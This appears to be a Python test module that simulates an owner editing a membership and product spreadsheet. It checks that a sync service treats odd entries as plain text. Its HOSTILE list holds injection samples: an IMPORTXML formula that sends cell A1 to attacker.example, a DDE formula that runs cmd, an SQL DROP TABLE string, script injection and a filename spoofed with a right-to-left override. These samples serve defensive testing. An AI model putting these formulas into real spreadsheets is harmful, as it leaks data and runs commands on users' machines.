"""Names, numbers, prices, states, notes, PINs: the cells that are the owner's alone."""

from services.sheets_sync.tabs import STATUSES, TABS
from tests.faults.month.clock import MINUTE
from tests.faults.month.hand import Hand, NeverMind, NotNow
from tests.support.google.cells import Value
from tests.support.google.owner import Entry

LONG = "가나다라마바사아자차 " * 1_000
"""Some ten thousand characters."""
HOSTILE = (
    '=IMPORTXML("http://attacker.example/?"&A1,"//a")',
    "=cmd|' /C calc'!A0",
    "+82 10 1234 5678 call",
    "-1+1",
    "@SUM(A1:A9)",
    "🎽🩳 👨‍👩‍👧‍👦",
    "مرحبا بالعالم",
    "\u202egnp.exe",
    "'; DROP TABLE members; --",
    "{{7*7}} <script>alert(1)</script>",
    "1-2",
    "00123",
    45_992,
)
"""In a column of text all of it is text, whatever it looks like."""
FAILED = '=IMPORTXML("http://attacker.example/","//price")'


def renames_member(hand: Hand) -> str:
    name = f"회원 {hand.number()}"
    return hand.types(("members", _member(hand), "name"), name, name)


def changes_phone(hand: Hand) -> str:
    """As text, as a number whose zero is gone, as one copies it from elsewhere."""
    last = f"{30_000_000 + hand.number()}"
    ways: tuple[Entry, ...] = (
        f"010-{last[:4]}-{last[4:]}", int(f"10{last}"), f"+82 10 {last[:4]} {last[4:]}", f"010{last}"
    )  # fmt: skip
    member_id = _member(hand)
    said = hand.types(("members", member_id, "phone"), hand.dice.choice(ways), f"010{last}")
    before = next(phone for phone, known in hand.model.members.items() if known == member_id)
    hand.model.members[f"010{last}"] = hand.model.members.pop(before)
    return said


def changes_status(hand: Hand) -> str:
    """Mostly back to active: the month goes on."""
    status = hand.dice.choice((*STATUSES, "active", "active"))
    return hand.types(("members", _member(hand), "status"), hand.dice.choice((status, status.title())), status)


def notes_something(hand: Hand) -> str:
    text: Entry = hand.dice.choice((*HOSTILE, f"메모 {hand.number()}", f"두 줄\n메모 {hand.number()}"))
    return hand.types(("members", _member(hand), "notes"), text, str(text))


def names_member_oddly(hand: Hand) -> str:
    text = hand.dice.choice(HOSTILE)
    return hand.types(("members", _member(hand), "name"), text, str(text))


def changes_product(hand: Hand) -> str:
    key = str(hand.row_of("products")["product_id"])
    order, won = hand.number(), hand.dice.randint(8, 20) * 100
    edits: tuple[tuple[str, Entry, str], ...] = (
        ("price", f"{won:,}원", str(won)),
        ("price", won, str(won)),
        ("name", f"상품 {order}", f"상품 {order}"),
        ("display_order", f"{order}번", str(order)),
    )
    column, text, meant = hand.dice.choice(edits)
    return hand.types(("products", key, column), text, meant)


def stops_selling(hand: Hand) -> str:
    """For half an hour."""
    place = ("products", str(hand.row_of("products")["product_id"]), "enabled")
    again: Entry = hand.dice.choice(("예", "O", True, 1))
    hand.later(30 * MINUTE, lambda: hand.types(place, again, "TRUE"))
    return hand.types(place, hand.dice.choice(("아니오", "X", False, "false")), "FALSE")


def changes_what_is_sold(hand: Hand) -> str:
    """Vouchers and subscriptions; those that the owner has added, too."""
    tab = hand.dice.choice(("voucher_products", "subscription_products"))
    key = str(hand.row_of(tab)["product_id"])
    number = hand.number()
    edits: list[tuple[str, Entry, str]] = [
        ("name", f"이용권 {number}", f"이용권 {number}"),
        ("price", f"₩{number * 100:,}", str(number * 100)),
        ("validity_days", f"{number}일", str(number)),
    ]
    if tab == "subscription_products":
        edits.append(("daily_limits", '{"top":1,"towel":3}', '{"top":1,"towel":3}'))
        edits.append(("daily_limits", "수건 2, 상의 1", '{"top":1,"towel":2}'))
    column, text, meant = hand.dice.choice(edits)
    return hand.types((tab, key, column), text, meant)


def sets_something(hand: Hand) -> str:
    """In `config`: a setting that is there, or a new one."""
    value = f"값 {hand.number()}"
    known = hand.rows("config") if hand.dice.random() < 0.6 else []
    if known:
        return hand.types(("config", str(hand.dice.choice(known)["key"]), "value"), value, value)
    hand.needs("config")
    key = f"setting-{hand.number()}"
    hand.screen.adds_row("config", key=key, value=value)
    hand.model.typed(("config", key, "value"), value, hand.now)
    return f"adds {key} to config"


def sets_pin(hand: Hand) -> str:
    return set_pin_of(hand, _member(hand))


def set_pin_of(hand: Hand, member_id: str) -> str:
    pin = hand.new_pin()
    hand.screen.types("members", member_id, "payment_password", hand.dice.choice((pin, f" {pin} ")))
    hand.model.pins[member_id] = (pin, hand.now)
    hand.model.forget_odd(("members", member_id, "payment_password"))
    return f"sets the PIN of {member_id} to {pin}"


def writes_what_cannot_be_read(hand: Hand) -> str:
    """And puts it right within the hour, in most cases."""
    kinds: tuple[tuple[str, str, Entry, Value], ...] = (
        ("members", "phone", "없음", None),
        ("members", "status", "휴회", None),
        ("members", "name", LONG, None),
        ("members", "payment_password", "12345", None),
        ("products", "price", "비쌈", None),
        ("products", "price", FAILED, "#N/A"),
        ("products", "enabled", "글쎄", None),
        ("products", "display_order", "내일", None),
        ("voucher_products", "charge_amount", "많이", None),
        ("subscription_products", "daily_limits", "무제한", None),
    )
    tab, column, text, result = hand.dice.choice(kinds)
    key = str(hand.row_of(tab)[TABS[tab].key])
    place, before = (tab, key, column), hand.screen.cell(tab, key, column)
    if place in hand.model.odd or before in ("", None):
        raise NotNow(key)
    said = hand.types_oddly(place, text, result)
    if hand.dice.random() < 0.8:
        hand.later(hand.dice.randint(3, 60) * MINUTE, lambda: _takes_back(hand, place, before))
    return said


def _takes_back(hand: Hand, place: tuple[str, str, str], before: Value) -> str:
    hand.needs(place[0])
    if place not in hand.model.odd and place not in hand.model.explained:
        raise NeverMind
    hand.screen.types(*place, before)
    hand.model.forget_odd(place)
    return f"puts {'.'.join(place)} right again"


def _member(hand: Hand) -> str:
    known = set(hand.model.members.values())
    return str(hand.row_of("members", lambda row: row["member_id"] in known)["member_id"])
